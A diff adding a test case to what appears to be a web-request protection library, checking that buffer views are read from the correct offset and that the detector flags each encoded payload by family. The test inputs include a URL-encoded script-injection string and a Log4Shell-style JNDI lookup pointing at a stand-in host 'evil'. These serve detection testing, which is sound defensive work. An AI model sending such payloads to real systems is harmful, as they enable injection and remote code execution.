@@ -97,6 +97,13 @@ test('facts without a readable body use props.body; an already-read body is UNRE
   const aj = palisade({ rules: [shield({ threshold: 0 })] });
   const facts = { method: 'POST', path: '/x', headers: ['content-type', 'application/x-www-form-urlencoded'], peer: '203.0.113.9' };
   assert.equal((await aj.protect(facts, { body: 'q=%24%7Bjndi%3Aldap%3A%2F%2Fevil%2Fa%7D' })).isDenied(), true);
+  // props.body as a view into a larger buffer: read from the view's own offset, not the buffer's start.
+  const whole = Buffer.from('q=%3Cscript%3Ealert(1)%3C%2Fscript%3E&q=%24%7Bjndi%3Aldap%3A%2F%2Fevil%2Fa%7D');
+  const first = new Uint8Array(whole.buffer, whole.byteOffset, whole.indexOf('&'));
+  const tail = new Uint8Array(whole.buffer, whole.byteOffset + whole.indexOf('&') + 1, whole.length - whole.indexOf('&') - 1);
+  assert.ok((await aj.protect(facts, { body: first })).reason.findings.some((f) => f.family === 'xss'));
+  const families = (await aj.protect(facts, { body: tail })).reason.findings.map((f) => f.family);
+  assert.deepEqual(families, ['jndi']);
   const used = new Request('http://localhost/x', { method: 'POST', body: 'hello' });
   await used.text();
   const d = await aj.protect(used);
